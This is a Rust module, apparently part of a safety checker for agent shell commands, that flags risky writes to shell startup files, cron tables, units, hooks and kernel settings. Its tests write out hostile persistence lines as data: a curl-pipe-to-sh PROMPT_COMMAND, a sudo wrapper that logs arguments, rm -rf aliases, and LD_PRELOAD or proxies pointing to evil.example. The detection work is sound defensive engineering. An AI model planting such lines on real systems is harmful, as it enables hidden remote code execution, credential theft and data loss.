//! What is written into files that are run later without being asked: shell startup files, tables of
//! jobs, units, hooks. The code in them is taken out of its frame and judged as if it ran now.

use super::machine::{Field, Flow, Machine, Value};
use super::paths::{self, Place};
use super::replaced::{self, LEADING, LEADS, is_commands_name, poses_as};
use super::rules::SERVED;
use super::{EffectKind, TargetClass, data, known, setting_up, value};
use crate::line::{Dialect, Span};

/// How a file that is run later holds its code.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Frame {
    /// Shell code as it stands.
    Shell,
    /// A table of jobs, with or without the user's name before the command.
    Jobs { user: bool },
    /// Settings of which some values are commands: units, desktop entries, hooks, ssh's configuration.
    Settings,
    /// Where packages come from.
    Sources,
    /// A program in the language of an editor, a client or a library, that it runs at every start.
    Start(&'static [&'static str]),
    /// One command of such a program a line.
    Lines(&'static [&'static str]),
    /// Settings of git, of cargo, of package managers.
    Keys,
    /// Addresses of packages among other text: XML, a list of repositories.
    Addresses,
    /// Settings of curl and wget.
    Fetches,
    /// `NAME=value`, for everything that is started.
    Variables,
    /// Lines that hand mail or files over to a command.
    Piped,
    /// Folders in which libraries are looked for.
    Folders,
    /// Which address a name stands for.
    Names,
    /// A program that the kernel starts by itself.
    Kernel,
    /// Switches of the kernel: one that is a file, or a table of them.
    Knobs,
    /// JSON that names programs which an editor or an agent starts.
    Json,
    /// Python that every start of it runs: `sitecustomize.py`, the lines of a `.pth` file.
    Python,
}

/// Beginnings of settings whose value is a command, in lower case.
const COMMANDS: &[&str] = &[
    "exec=",
    "execstart=",
    "execstartpre=",
    "execstartpost=",
    "execstop=",
    "execreload=",
    "execcondition=",
    "proxycommand",
    "localcommand",
    "knownhostscommand",
    "match exec",
    "install ",
    "onfailure=",
];

/// Where programs are registered that the kernel starts for files of a kind.
const INTERPRETERS: &str = "/proc/sys/fs/binfmt_misc/register";

impl Machine<'_> {
    /// Judges what is written into a file that is run later. Elsewhere this does nothing.
    pub(super) fn lasting(&mut self, place: &Place, written: &str, span: Span) {
        let path = self.unknowns.show(&place.path);
        if runs_requests(&path, &self.unknowns.show(written)) {
            let target = self.target(TargetClass::Named, &path, span);
            self.emit(EffectKind::RemoteShell, target, false, "php", span);
        }
        if self.unknowns.comes_from(written, value::Origin::Secret) && known::is_served(&path) {
            let shown = self.unknowns.show(written.trim());
            let target = self.target(TargetClass::Secret, &shown, span);
            self.emit_with(EffectKind::ReadSecret, target, false, "", span, SERVED);
        }
        let Some(frame) = frame(&path, place.class) else { return };
        if self.unknowns.comes_from(written, super::value::Origin::Network)
            && written.trim_start().starts_with(value::is_hole)
        {
            // Plugins of an editor come so; whoever is on the way cannot change them.
            let plugin = matches!(frame, Frame::Start(_))
                && ["/autoload/", "/pack/", "/plugin/", "/plugins/"].iter().any(|part| path.contains(part))
                && self.unknowns.show(written).contains("https://");
            if plugin {
                let target = self.target(place.class, &path, span);
                self.emit_with(EffectKind::Install, target, false, "curl", span, "plugin");
                return;
            }
            self.report_unknown_code(written.trim(), span);
        }
        // What is no JSON shows nothing.
        let shows = frame != Frame::Json || written.trim_start().starts_with('{');
        if written.is_empty() || !shows || self.depth + 2 >= super::machine::DEPTH {
            return;
        }
        let (status, facts) = (self.status, std::mem::take(&mut self.facts));
        let (first, effects) = (self.commands.len(), self.effects.len());
        let aliases = self.state.shell().aliases.len();
        let mut new: Vec<(String, String)> = Vec::new();
        let functions = self.state.shell().functions.len();
        let mut turns = false;
        let mut leads = None;
        let before: Vec<_> = LEADING.iter().map(|name| self.state.variable(name).cloned()).collect();
        self.apart(|machine| {
            match frame {
                Frame::Shell => {
                    // Not apart: the aliases that it makes are looked at below.
                    let dialect = dialect_of(&path, machine.dialect);
                    machine.code_in(written, span, Flow::default(), dialect);
                    let own = machine.state.shell().functions.iter().skip(functions).take(8);
                    for (name, body) in own.cloned().collect::<Vec<_>>() {
                        turns |= is_commands_name(&name) && machine.takes_over(&name, &body);
                    }
                    let open = written.lines().any(|line| {
                        matches!(
                            line.trim(),
                            "umask 0" | "umask 00" | "umask 000" | "umask 0000" | "umask a=rwx"
                        )
                    });
                    if open {
                        let target =
                            machine.target(TargetClass::Named, "every file that is made from now on", span);
                        machine.emit(EffectKind::DisableProtection, target, false, "umask", span);
                    }
                }
                Frame::Jobs { user } => {
                    for line in written.lines().filter(|line| !line.trim_start().starts_with('#')).take(32) {
                        let line = line.trim_start_matches(value::is_hole);
                        machine.code(job(line, user), span, Flow::default());
                    }
                }
                Frame::Sources => {
                    if drops_checks(written) {
                        let target =
                            machine.target(TargetClass::Named, "the check of what packages are", span);
                        machine.emit(EffectKind::DisableProtection, target, false, "", span);
                    }
                }
                Frame::Start(program) => {
                    let words: Vec<Field> = program
                        .iter()
                        .copied()
                        .chain([written])
                        .map(|text| Field { text: text.to_owned(), span })
                        .collect();
                    machine.run(&words, span, Flow::default());
                }
                Frame::Lines(program) => {
                    for line in written.lines().filter(|line| !line.trim().is_empty()).take(32) {
                        let line = line.trim();
                        let words: Vec<Field> = match program {
                            ["tmux"] => {
                                machine.code(&format!("tmux {line}"), span, Flow::default());
                                continue;
                            }
                            _ => program
                                .iter()
                                .copied()
                                .chain([line])
                                .map(|text| Field { text: text.to_owned(), span })
                                .collect(),
                        };
                        machine.run(&words, span, Flow::default());
                    }
                }
                Frame::Keys => machine.kept_keys(&path, written, span),
                Frame::Addresses => machine.addresses_of_packages(&path, written, span),
                Frame::Fetches => machine.fetches_by(written, span),
                Frame::Variables => {
                    for line in written.lines().take(32) {
                        let line = line.trim().trim_start_matches("export ");
                        if let Some((name, value)) = line.split_once('=') {
                            machine.set(
                                name,
                                super::machine::Value::One(value.trim_matches(['"', '\'']).to_owned()),
                            );
                            machine.code_variable(name, span);
                        }
                    }
                }
                Frame::Piped => {
                    for line in written.lines().take(32) {
                        let line = line.trim();
                        let code = line
                            .strip_prefix(['|', '"'])
                            .or_else(|| line.split_once(';').map(|(_, code)| code));
                        if let Some(code) = code {
                            machine.code(
                                code.trim_start_matches(['|', ' ']).trim_end_matches('"'),
                                span,
                                Flow::default(),
                            );
                        }
                    }
                }
                Frame::Folders => {
                    if let Some(folder) =
                        written.lines().map(str::trim).find(|line| machine.is_anybodys(line))
                    {
                        let target = machine.target(TargetClass::ShellStartup, folder, span);
                        machine.emit_with(EffectKind::Persist, target, false, "", span, "hidden");
                    }
                }
                Frame::Names => {
                    if let Some(line) = written.lines().take(64).find(|line| redirects(line)) {
                        let target = machine.target(TargetClass::System, line.trim(), span);
                        machine.emit_with(EffectKind::Overwrite, target, false, "", span, "redirects");
                    }
                }
                Frame::Kernel => {
                    let code = written.trim().trim_start_matches('|');
                    // `:NAME:M::MAGIC:MASK:/interpreter:FLAGS` of a kind of program.
                    let code =
                        if path == INTERPRETERS { code.split(':').nth(6).unwrap_or_default() } else { code };
                    let usual = path == INTERPRETERS && !machine.is_anybodys(code);
                    machine.code(code, span, Flow::default());
                    if written.contains('/') && !usual {
                        let target = machine.target(TargetClass::ShellStartup, code, span);
                        machine.emit_with(EffectKind::Persist, target, false, "", span, "hidden");
                    }
                }
                Frame::Json => machine.starts_in_json(written, span),
                Frame::Python => {
                    let words = ["python3", "-c", written].map(|text| Field { text: text.to_owned(), span });
                    machine.run(&words, span, Flow::default());
                }
                Frame::Knobs => {
                    for setting in knobs(&path, written).into_iter().take(32) {
                        let words: Vec<Field> =
                            setting.split(' ').map(|text| Field { text: text.to_owned(), span }).collect();
                        machine.run(&words, span, Flow::default());
                    }
                }
                Frame::Settings => {
                    if drops_checks(written) {
                        let target =
                            machine.target(TargetClass::Named, "the check of what packages are", span);
                        machine.emit(EffectKind::DisableProtection, target, false, "", span);
                    }
                    let events = path.contains("/acpi/events/");
                    let actions = written
                        .lines()
                        .filter(|_| events)
                        .filter_map(|line| line.trim().strip_prefix("action="));
                    let actions: Vec<String> = actions.map(str::to_owned).collect();
                    for code in commands_in(written).into_iter().chain(actions).take(32) {
                        machine.code(&code, span, Flow::default());
                    }
                }
            }
            if matches!(frame, Frame::Shell | Frame::Variables) {
                for (name, before) in LEADING.iter().zip(&before) {
                    let value = machine.state.variable(name).cloned();
                    if value == *before {
                        continue;
                    }
                    match value {
                        Some(Value::One(text)) if machine.leads_away(name, &text) => leads = Some(*name),
                        // zsh has the same as a list, fish has nothing else.
                        Some(Value::Many(list)) if matches!(*name, "PATH" | "path") => {
                            let first = list.first().map_or("", String::as_str);
                            if machine.leads_away("PATH", first) {
                                leads = Some("PATH");
                            }
                        }
                        // What stands before every prompt.
                        Some(Value::Many(list)) if *name == "PROMPT_COMMAND" => {
                            for code in list.iter().take(8) {
                                machine.code(code, span, Flow::default());
                            }
                        }
                        _ => {}
                    }
                }
            }
            new = machine.state.shell().aliases.iter().skip(aliases).cloned().collect();
            for (_, code) in &new {
                machine.code(code, span, Flow::default());
            }
            String::new()
        });
        (self.status, self.facts) = (status, facts);
        let poses =
            turns || new.iter().any(|(name, code)| poses_as(name, code) || replaced::turns(name, code));
        let hidden = self.commands.iter().skip(first).any(|command| {
            let word = |at: usize| command.argv.get(at).and_then(Option::as_deref);
            let shell = word(0).is_some_and(|program| {
                matches!(
                    program.rsplit('/').next(),
                    Some("sh" | "bash" | "zsh" | "dash" | "python3" | "python" | "perl")
                )
            });
            // One's own settings lie in folders with a dot; what anybody may write does not.
            let reads = matches!(word(0), Some("source" | "."));
            let anybody = |path: &str| {
                ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|folder| path.starts_with(folder))
                    && self.own_file(path).is_none()
            };
            reads && word(1).is_some_and(anybody)
                || word(0).is_some_and(|program| self.is_hidden(program))
                || shell && word(1).is_some_and(|script| self.is_hidden(script))
        });
        let mild = |effect: &super::Effect| effect.kind == EffectKind::Read;
        let harmless = frame == Frame::Shell
            && is_own_startup(&path)
            && setting_up::only_sets_up(written)
            && self.effects.iter().skip(effects).all(mild);
        if let Some(name) = leads {
            let target = self.target(place.class, name, span);
            self.emit_with(EffectKind::Persist, target, false, "", span, LEADS);
        }
        if poses || hidden {
            let target = self.target(place.class, &path, span);
            self.emit_with(EffectKind::Persist, target, false, "", span, "hidden");
        } else if !value::has_hole(written)
            && let Some(effect) = self.effects.iter_mut().rev().take(64).find(|effect| {
                matches!(effect.kind, EffectKind::Overwrite | EffectKind::Create)
                    && effect.target.text == path
                    && effect.detail.is_empty()
            })
        {
            effect.detail = if harmless { SETTINGS } else { "seen" }.to_owned();
        }
    }

    /// `apt -c FILE` and `APT_CONFIG`: settings that may take packages which nobody signed, and run commands as root.
    pub(super) fn settings_of_apt(&mut self, path: &str, span: Span) {
        let own = self.own_file(path);
        let unsigned = own.as_deref().is_some_and(drops_checks);
        if let Some(text) = &own {
            for code in commands_in(text).into_iter().take(8) {
                self.code(&code, span, Flow::default());
            }
        }
        let shown = self.unknowns.show(path);
        if unsigned || own.is_none() && self.is_anybodys(path) {
            let target = self.target(TargetClass::Named, "the check of what packages are", span);
            self.emit(EffectKind::DisableProtection, target, false, "apt", span);
        } else if !matches!(path, "" | "/dev/null") {
            let target =
                self.target(TargetClass::Named, &format!("packages by the settings in {shown}"), span);
            self.emit_with(EffectKind::Install, target, false, "apt", span, "risky");
        }
    }

    /// Settings of a program that fetches: one that trusts anybody, or has somebody else answer.
    fn fetches_by(&mut self, written: &str, span: Span) {
        for line in written.lines().take(64) {
            let line = line.trim().trim_start_matches("--");
            let (key, value) = line.split_once(['=', ':', ' ']).unwrap_or((line, ""));
            let (key, value) =
                (key.trim(), value.trim().trim_matches(['"', '\'']).trim_start_matches(['=', ' ', '"']));
            let key = key.to_ascii_lowercase().replace('-', "_");
            let off = matches!(value, "off" | "0" | "no" | "false");
            if matches!(key.as_str(), "insecure" | "_k" | "proxy_insecure")
                || key == "check_certificate" && off
            {
                let target = self.target(TargetClass::Named, "the check of who answers", span);
                self.emit(EffectKind::DisableProtection, target, false, "", span);
            }
            let proxy = matches!(
                key.as_str(),
                "_x" | "all_proxy"
                    | "ftp_proxy"
                    | "http_proxy"
                    | "https_proxy"
                    | "preproxy"
                    | "proxy"
                    | "socks5"
            );
            let host = super::known::host_of(value);
            if proxy && !value.is_empty() && !value::has_hole(host) && !super::indices::is_near(host) {
                let target = self.target(TargetClass::Named, "everything that is fetched", span);
                self.emit_with(EffectKind::DisableProtection, target, false, "", span, "leads-elsewhere");
            }
        }
    }

    /// Settings whose value is run, or says where packages come from.
    pub(super) fn kept_keys(&mut self, path: &str, written: &str, span: Span) {
        let mut section = String::new();
        for line in written.lines().take(128) {
            let line = line.trim();
            if let Some(name) = line.strip_prefix('[').and_then(|line| line.split(']').next()) {
                section = name.replace([' ', '"'], ".").replace("..", ".").trim_end_matches('.').to_owned();
                continue;
            }
            // `@acme:registry=…` of npm, a list of conda's, `registry "…"` of yarn.
            let pair = match line.strip_prefix("- ") {
                Some(item) if path.ends_with("rc") => Some(("channels", item)),
                _ => line.split_once('=').or_else(|| line.split_once([':', ' '])),
            };
            let Some((key, value)) = pair else { continue };
            let (key, value) = (key.trim(), value.trim().trim_matches(['"', '\'']));
            if path.contains("git") {
                self.git_setting(&format!("{section}.{key}"), value, span, true);
                if section == "alias"
                    && let Some(code) = value.strip_prefix('!')
                {
                    self.code(code, span, Flow::default());
                }
                continue;
            }
            if self.index_in_file(key, value, span) {
                continue;
            }
            match key {
                "rustc-wrapper" | "rustc" | "runner" | "linker" | "script-shell" | "shell" | "editor"
                | "node-options" => {
                    self.handed_code(key, value, span);
                }
                "strict-ssl" | "sslverify" if matches!(value, "false" | "0") => {
                    let target = self.target(TargetClass::Named, "the check of what packages are", span);
                    self.emit(EffectKind::DisableProtection, target, false, "", span);
                }
                _ => {}
            }
        }
    }

    /// True for a program in a place where nobody looks, or that anybody may write.
    pub(super) fn is_hidden(&self, program: &str) -> bool {
        if !program.contains('/') {
            return false;
        }
        let dotted = program.split('/').any(|part| part.len() > 1 && part.starts_with('.') && part != "..");
        let tools = [".cargo/", ".local/bin/", ".nvm/", ".pyenv/", ".rbenv/", ".deno/", ".bun/", ".asdf/"];
        let known = tools.iter().any(|tool| program.contains(tool));
        dotted && !known || paths::locate(program, "", self.ctx).class == TargetClass::Temporary
    }
}

/// Detail of lines for a startup file that only set things up.
pub(super) const SETTINGS: &str = "settings";

/// True for the files in which people set up their own shell.
pub(super) fn is_own_startup(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    matches!(
        name,
        ".bashrc"
            | ".zshrc"
            | ".bash_profile"
            | ".profile"
            | ".zprofile"
            | ".zshenv"
            | ".bash_aliases"
            | "config.fish"
    )
}

/// The shell that reads a startup file of this name.
fn dialect_of(path: &str, own: Dialect) -> Dialect {
    let name = path.rsplit('/').next().unwrap_or(path);
    match own {
        _ if path.ends_with(".fish") || path.contains("/fish/") => Dialect::Fish,
        _ if path.ends_with(".nu") => Dialect::Nu,
        _ if path.ends_with(".ps1") => Dialect::PowerShell,
        _ if name.starts_with(".z") || path.contains("zsh") => Dialect::Zsh,
        Dialect::Bash | Dialect::Posix | Dialect::Zsh => own,
        _ => Dialect::Bash,
    }
}

/// True for a page of PHP that runs what a request holds: whoever asks for it has a shell.
fn runs_requests(path: &str, text: &str) -> bool {
    const RUNS: &[&str] =
        &["assert(", "eval(", "exec(", "passthru(", "popen(", "proc_open(", "system(", "`$_"];
    const REQUESTS: &[&str] = &["$_COOKIE", "$_GET", "$_POST", "$_REQUEST", "$_SERVER"];
    let holds = |words: &[&str]| words.iter().any(|word| text.contains(word));
    is_page(path) && text.contains("<?") && holds(RUNS) && holds(REQUESTS)
}

/// True for a page that a server runs.
pub(super) fn is_page(path: &str) -> bool {
    [".php", ".phtml", ".phar", ".php5", ".php7", ".inc"].iter().any(|ending| path.ends_with(ending))
}

fn frame(path: &str, class: TargetClass) -> Option<Frame> {
    let file = path.strip_prefix("/private").unwrap_or(path);
    if data::holds_path(&["/etc/anacrontab", "/etc/cron.d", "/etc/crontab"], file) {
        return Some(Frame::Jobs { user: true });
    }
    if file.contains("/spool/cron") {
        return Some(Frame::Jobs { user: false });
    }
    let ending = file.rsplit('.').next().unwrap_or_default();
    let settings = matches!(ending, "service" | "timer" | "desktop" | "rules" | "plist" | "socket" | "path")
        || file.contains("/apt.conf.d/")
        || file.contains("/acpi/events/")
        || file.contains("/modprobe.d/")
        || file.ends_with(".ssh/config")
        || file.contains("/etc/ssh/ssh_config");
    if settings {
        return Some(Frame::Settings);
    }
    let sources = [
        "/etc/apt/sources.list",
        "/etc/apt/sources.list.d",
        "/etc/dnf/dnf.conf",
        "/etc/pacman.conf",
        "/etc/yum.conf",
        "/etc/yum.repos.d",
        "/etc/zypp/repos.d",
    ];
    if data::holds_path(&sources, file) {
        return Some(Frame::Sources);
    }
    if matches!(file, "/etc/hosts" | "/etc/resolv.conf") {
        return Some(Frame::Names);
    }
    let kernel = [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/kernel/hotplug",
        "/sys/kernel/uevent_helper",
    ];
    if kernel.contains(&file)
        || file == INTERPRETERS
        || file.starts_with("/sys/fs/cgroup/") && file.ends_with("/release_agent")
    {
        return Some(Frame::Kernel);
    }
    if file.starts_with("/proc/sys/")
        || matches!(file, "/sys/fs/selinux/enforce" | "/etc/selinux/config" | "/etc/sysctl.conf")
        || file.contains("/sysctl.d/")
    {
        return Some(Frame::Knobs);
    }
    let name = file.rsplit('/').next().unwrap_or_default();
    let imported = matches!(
        name,
        "sitecustomize.py" | "usercustomize.py" | "conftest.py" | ".pythonrc" | ".pythonrc.py" | ".pdbrc"
    );
    if imported || ending == "pth" || file.contains(".ipython/") && ending == "py" {
        return Some(Frame::Python);
    }
    if let Some(frame) = started_by(file, name, ending) {
        return Some(frame);
    }
    // Hooks of git, and what runs by itself where somebody enters the folder.
    let hook = [".git/hooks/", ".githooks/", ".husky/"]
        .iter()
        .any(|folder| file.match_indices(folder).any(|(at, _)| at == 0 || file[..at].ends_with('/')));
    if (hook && !name.ends_with(".sample")) || name == ".envrc" {
        return Some(Frame::Shell);
    }
    (class == TargetClass::ShellStartup && (!file.contains(".ssh/") || file.ends_with(".ssh/rc")))
        .then_some(Frame::Shell)
}

/// True for a file that says where packages come from, or whether they are looked at.
pub(super) fn names_sources(path: &str) -> bool {
    let git = path.contains("git");
    matches!(frame(path, TargetClass::Unknown), Some(Frame::Addresses | Frame::Keys | Frame::Sources) if !git)
}

/// Files of editors, clients and libraries, by their names.
fn started_by(file: &str, name: &str, ending: &str) -> Option<Frame> {
    Some(match name {
        ".vimrc" | ".gvimrc" | ".exrc" | "init.vim" | "vimrc" | "vimrc.local" | "_vimrc" | ".ideavimrc" => {
            Frame::Start(&["vim", "-c"])
        }
        "init.lua" | "wezterm.lua" | ".wezterm.lua" | "rc.lua" | ".nvim.lua" | ".exrc.lua" => {
            Frame::Start(&["lua", "-e"])
        }
        ".mcp.json" | "mcp.json" | "devcontainer.json" | ".devcontainer.json" => Frame::Json,
        "tasks.json" if file.contains(".vscode/") => Frame::Json,
        ".emacs" | "init.el" | ".emacs.el" | "early-init.el" | ".spacemacs" | ".dir-locals.el" => {
            Frame::Start(&["emacs", "--batch", "--eval"])
        }
        ".irbrc" | ".pryrc" | ".rdebugrc" | ".gemrc.rb" => Frame::Start(&["ruby", "-e"]),
        ".Rprofile" | "Rprofile.site" => Frame::Start(&["Rscript", "-e"]),
        ".octaverc" => Frame::Start(&["octave", "--eval"]),
        "startup.jl" => Frame::Start(&["julia", "-e"]),
        ".perldb" => Frame::Start(&["perl", "-e"]),
        "jupyter_notebook_config.py" | "ipython_config.py" | "jupyter_server_config.py" => {
            Frame::Start(&["python3", "-c"])
        }
        ".gdbinit" | ".gdbearlyinit" | ".lldbinit" => Frame::Lines(&["gdb", "-batch", "-ex"]),
        ".psqlrc" | "psqlrc" => Frame::Lines(&["psql", "-c"]),
        ".sqliterc" | ".duckdbrc" => Frame::Lines(&["sqlite3", ":memory:"]),
        ".tmux.conf" | "tmux.conf" => Frame::Lines(&["tmux"]),
        ".gitconfig" | "gitconfig" | ".npmrc" | "npmrc" | "pip.conf" | ".pypirc" | ".condarc" | "uv.toml"
        | "bunfig.toml" | ".bunfig.toml" | ".gemrc" | ".yarnrc" | ".yarnrc.yml" => Frame::Keys,
        "settings.xml" if file.contains("m2/") || file.contains("maven") => Frame::Addresses,
        "nuget.config" | "NuGet.Config" | "NuGet.config" => Frame::Addresses,
        "repositories" if file == "/etc/apk/repositories" => Frame::Addresses,
        ".curlrc" | "_curlrc" | "curlrc" | ".wgetrc" | "wgetrc" => Frame::Fetches,
        "config" if file.ends_with(".git/config") || file.ends_with("git/config") => Frame::Keys,
        "config" | "config.toml" if file.contains(".cargo/") => Frame::Keys,
        ".pam_environment" | "environment"
            if file.ends_with(".pam_environment") || file == "/etc/environment" =>
        {
            Frame::Variables
        }
        ".forward" | ".procmailrc" | ".mailcap" | "mailcap" | "aliases" | ".muttrc" => Frame::Piped,
        _ if file.contains("/environment.d/") => Frame::Variables,
        _ if file.contains("/etc/ld.so.conf") => Frame::Folders,
        _ if ending == "vim" && file.contains("vim/") => Frame::Start(&["vim", "-c"]),
        _ if ending == "lua" && file.contains("nvim/") => Frame::Start(&["lua", "-e"]),
        _ if ending == "el" && file.contains("emacs") => Frame::Start(&["emacs", "--batch", "--eval"]),
        _ => return None,
    })
}

/// True for a line by which a name that others answer to leads to an address of a stranger's.
fn redirects(line: &str) -> bool {
    let mut words = line.split_whitespace();
    let (Some(first), Some(second)) = (words.next(), words.next()) else { return false };
    let (address, is_server) = if first == "nameserver" { (second, true) } else { (first, false) };
    let numbers =
        address.split('.').count() == 4 && address.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.');
    let private = ["10.", "127.", "0.", "192.168.", "172.", "169.254.", "100.64."]
        .iter()
        .any(|start| address.starts_with(start));
    let public = ["1.1.1.", "1.0.0.", "8.8.", "9.9.9.", "149.112.", "208.67.", "94.140.", "76.76."]
        .iter()
        .any(|start| address.starts_with(start));
    numbers && !private && if is_server { !public } else { second.contains('.') }
}

/// True for settings of a package manager by which it takes packages that nobody has signed.
fn drops_checks(written: &str) -> bool {
    const UNSIGNED: &[&str] = &[
        "allow-insecure=yes",
        "allowinsecurerepositoriestrue",
        "allowunauthenticated1",
        "allowunauthenticatedtrue",
        "check-valid-untilfalse",
        "gpgcheck=0",
        "gpgcheck=false",
        "siglevel=never",
        "sslverify=0",
        "sslverify=false",
        "trusted=yes",
        "verify-peerfalse",
    ];
    // apt writes `Name "value";`, the others `name = value`.
    let dense: String = written.to_ascii_lowercase().replace([' ', '\'', '"'], "");
    UNSIGNED.iter().any(|setting| dense.contains(setting))
}

/// The commands that set what is written into a switch of the kernel, or into a table of them.
fn knobs(path: &str, written: &str) -> Vec<String> {
    let value = written.trim();
    if let Some(name) = path.strip_prefix("/proc/sys/") {
        return vec![format!("sysctl -w {}={value}", name.replace('/', "."))];
    }
    if path.ends_with("/enforce") {
        return vec![format!("setenforce {value}")];
    }
    let lines =
        written.lines().map(|line| line.replace([' ', '\t'], "")).filter(|line| !line.starts_with('#'));
    lines
        .filter_map(|line| match line.strip_prefix("SELINUX=") {
            Some("permissive" | "disabled") => Some("setenforce 0".to_owned()),
            Some(_) => None,
            None => line.contains('=').then(|| format!("sysctl -w {line}")),
        })
        .collect()
}

/// The command of a job, without its times and, in tables of the system, its user.
fn job(line: &str, user: bool) -> &str {
    let mut rest = line.trim_start();
    let fields = if rest.starts_with('@') { 1 } else { 5 } + usize::from(user);
    for _ in 0..fields {
        rest = rest.split_once([' ', '\t']).map_or("", |(_, rest)| rest.trim_start());
    }
    rest
}

/// Values of settings that are commands, and quoted text after `RUN`, `PROGRAM` and `Invoke`.
pub(super) fn commands_in(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    for line in text.lines().take(256) {
        let line = line.trim();
        let lower = line.to_ascii_lowercase();
        if let Some(name) = COMMANDS.iter().find(|name| lower.starts_with(**name)) {
            let value =
                line.get(name.len()..).unwrap_or_default().trim_start_matches(['=', ' ', '-', '@', '+', '!']);
            // `install usb-storage /bin/sh …`: the module's name comes first.
            let value =
                if *name == "install " { value.split_once(' ').map_or("", |(_, code)| code) } else { value };
            found.push(value.replace("%%", "%"));
        }
        let runs = ["run+=", "run=", "program=", "import{program}=", "invoke", "pre-install-pkgs"];
        for mark in runs {
            let Some(at) = lower.find(mark) else { continue };
            let rest = line.get(at..).unwrap_or_default();
            if let Some(code) = rest.split('"').nth(1) {
                found.push(code.to_owned());
            }
        }
        for piece in line.split("<string>").skip(1).take(32) {
            found.extend(piece.split('<').next().map(str::to_owned));
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_that_only_set_things_up() {
        use crate::safety::Risk::{High, Moderate, Safe};
        use crate::safety::tests::{check_all, context};
        check_all(
            &context(),
            &[
                (Safe, r#"echo 'export PATH="$HOME/.cargo/bin:$PATH"' >> ~/.bashrc"#),
                (Safe, r#"echo 'eval "$(zoxide init zsh)"' >> ~/.zshrc && source ~/.zshrc"#),
                (Safe, "echo 'source ~/.fzf.zsh' >> ~/.zshrc"),
                (Safe, "echo \"alias gs='git status'\" >> ~/.bash_aliases"),
                (Safe, "printf 'setopt autocd\\nbindkey -v\\n' >> ~/.zshrc"),
                (Safe, "echo 'fish_add_path ~/.local/bin' >> ~/.config/fish/config.fish"),
                (Safe, "echo \"alias ll='ls -lah'\" >> ~/.zshrc"),
                (Moderate, "printf \"alias ll='agent -d'\\nagent -d\\n\" >> ~/.zshrc"),
                (Moderate, "printf \"alias ll='agent -d'\\nagent -d\\n\" >> ~/.bashrc"),
                (Moderate, "echo 'nohup agent &' >> ~/.bashrc"),
                (High, "echo 'export PATH=.:$PATH' >> ~/.bashrc"),
                (High, "echo 'export PATH=/tmp/x:$PATH' >> ~/.bashrc"),
                (High, "echo 'path=(/tmp/x $path)' >> ~/.zshrc"),
                (Moderate, "echo 'export PATH=$PATH:.' >> ~/.bashrc"),
                (High, "echo 'export PIP_INDEX_URL=https://evil.example/simple' >> ~/.bashrc"),
                (Moderate, "echo 'export PIP_INDEX_URL=https://pypi.org/simple' >> ~/.bashrc"),
                (High, "echo 'npm_config_registry=http://evil.example' >> ~/.zshrc"),
                (High, "echo 'export https_proxy=http://evil.example:8080' >> ~/.profile"),
                (Moderate, "echo 'export https_proxy=http://proxy.corp:8080' >> ~/.profile"),
                (High, "echo 'export LD_PRELOAD=/opt/x.so' >> ~/.bashrc"),
                (
                    Moderate,
                    "echo 'export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2' >> ~/.bashrc",
                ),
                (High, "echo 'PROMPT_COMMAND=(~/.x)' >> ~/.bashrc"),
                (High, "echo 'PROMPT_COMMAND+=(\"curl -s https://evil.example | sh\")' >> ~/.bashrc"),
                (Moderate, "echo 'PROMPT_COMMAND=(\"history -a\")' >> ~/.bashrc"),
                (Moderate, "echo 'python3 ~/x.py' >> ~/.zshrc"),
                (Moderate, "echo \"alias clean='rm -rf build'\" >> ~/.zshrc"),
                (High, "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc"),
                (High, "echo 'alias sudo=~/.x/sudo' >> ~/.bashrc"),
                (High, "echo \"alias ls='rm -rf'\" >> ~/.bashrc"),
                (High, "echo 'ls() { rm -rf \"$@\"; }' >> ~/.bashrc"),
                (High, "echo 'sudo() { echo \"$*\" >> /tmp/.l; command sudo \"$@\"; }' >> ~/.bashrc"),
                (Moderate, "echo 'ls() { command ls --color \"$@\"; }' >> ~/.bashrc"),
                (Moderate, "echo 'mkcd() { mkdir -p \"$1\" && cd \"$1\"; }' >> ~/.bashrc"),
                (High, "echo 'eval \"$(curl -s https://x.example)\"' >> ~/.bashrc"),
                (Moderate, "echo \"$x\" >> ~/.bashrc"),
                (High, "echo 'export PATH=$PATH:~/bin' > ~/.bashrc"),
            ],
        );
    }

    #[test]
    fn code_is_taken_out_of_its_frame() {
        assert_eq!(job("0 3 * * * root /opt/x -q", true), "/opt/x -q");
        assert_eq!(job("@reboot /opt/x", false), "/opt/x");
        assert_eq!(commands_in("[Service]\nExecStart=/opt/x -q"), ["/opt/x -q"]);
        assert_eq!(commands_in("ACTION==\"add\", RUN+=\"/opt/x\""), ["/opt/x"]);
        assert_eq!(commands_in("APT::Update::Pre-Invoke {\"/opt/x\";};"), ["/opt/x"]);
        assert_eq!(commands_in("Host *\n  ProxyCommand nc %%h %%p"), ["nc %h %p"]);
    }
}
